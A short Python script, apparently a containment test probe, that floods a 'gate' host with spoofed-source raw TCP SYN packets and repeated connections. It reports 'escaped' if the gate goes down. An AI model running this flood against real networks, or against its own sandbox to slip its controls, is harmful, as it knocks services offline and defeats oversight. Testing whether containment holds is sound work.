# SPDX-License-Identifier: Apache-2.0
# Trick: a flood of SYNs with forged senders, and of whole connections
# Gain: the gate falls, and with it what it holds back
# Control: none, it is aimed at the gate
from trick import *

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for i in range(3000):
        src = f"100.127.255.25{i % 5}"
        s.sendto(ipv4(EVIL, 6, tcp_segment(src, EVIL, 1024 + i, 80, seq=i), src), (EVIL, 0))
except OSError as e:
    hear(repr(e).encode())
for i in range(1000):
    c = tcp(EVIL if i % 2 else API, 80, 0.2)
    if c:
        c.close()
if not alive(10):
    escaped("nothing works any more")
stopped("the gate serves on")
